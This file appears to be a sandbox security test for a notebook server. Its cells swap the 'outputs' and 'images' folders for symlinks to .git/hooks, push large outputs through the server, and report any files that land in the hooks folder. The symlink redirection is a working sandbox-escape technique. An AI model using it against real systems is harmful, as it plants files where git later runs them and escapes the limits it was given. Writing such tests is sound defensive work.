# SPDX-License-Identifier: Apache-2.0
"""The server saves a cell's outputs and images through links where the cell may not write"""

from box import Box

BREAKS = ("docs/sandbox-settings.md", "`.git/hooks` never")
ONLY = ["*+S"]

CODE = """
import base64, glob, shutil
from IPython.display import HTML, Image, display
PNG = base64.b64decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==')
for name, to in (('outputs', '.git/hooks'), ('images', '.git/hooks')):
    if os.path.isdir(name) and not os.path.islink(name): os.rename(name, name + os.urandom(4).hex())
    if not os.path.lexists(name): os.symlink(to, name)
"""
SHOW = "display(Image(PNG)); display(HTML('<b>x</b>')); print('x' * 3_000_000)"


def attack(box: Box) -> str:
    before = set(box.inside("/bin/ls", "/app/workspace/.git/hooks").split())
    session = box.session()
    box.cell(CODE, session)
    box.cell(f"{CODE}{SHOW}", session)
    box.cell("raise ValueError('x' * 3_000_000)", session, ends=True)
    after = set(box.inside("/bin/ls", "/app/workspace/.git/hooks").split())
    box.cell("[os.unlink(n) for n in ('outputs', 'images') if os.path.islink(n)]", session)
    return " ".join(sorted(after - before))
